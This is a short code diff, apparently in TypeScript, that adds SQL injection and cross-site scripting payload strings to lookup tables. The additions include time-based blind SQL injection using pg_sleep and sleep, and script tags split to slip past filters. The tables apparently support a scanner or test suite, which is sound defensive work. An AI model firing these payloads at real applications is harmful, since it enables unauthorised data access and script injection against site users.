@@ -50,6 +50,7 @@ const SQL: Readonly<Record<string, readonly (readonly [string, string])[]>> = {
   'blind and timed': [
     ["7 and ascii(substring((select pin from vault limit 1),1,1))>64", '= sub-select'],
     ['sleep(5)', '= function'],
+    ['||pg_sleep(5)--', '= function'],
     ["'+benchmark(9999999,sha1(7))+'", "' function"],
     ["x' and pg_sleep(9)--", "' function"],
     ["7; waitfor delay '0:0:9'", '= clause'],
@@ -103,6 +104,9 @@ const SQL: Readonly<Record<string, readonly (readonly [string, string])[]>> = {
     ["x') from staff where pin='1", "' clause"],
     ["x' in boolean mode) --", "' clause"],
     ['7 having 1=1', '= clause'],
+    ['order by 7-- ', '= clause'],
+    ['where 7=8', '= clause'],
+    ['order by 1,sleep(7)', '= sub-select'],
   ],
   arithmetic: [
     ["x'+7*'2", "' concatenation"],
@@ -225,6 +229,8 @@ const XSS: Readonly<Record<string, readonly string[]>> = {
     '<!--><script>a()</script>-->',
     '<!-- <script>a()</script> -->',
     '<iframe src=//h>',
+    '<scr<script>ipt>a()',
+    '<script<b>a()',
     '<object data=a.swf>',
     '<embed src=a.swf>',
     '<base href=//h/>',
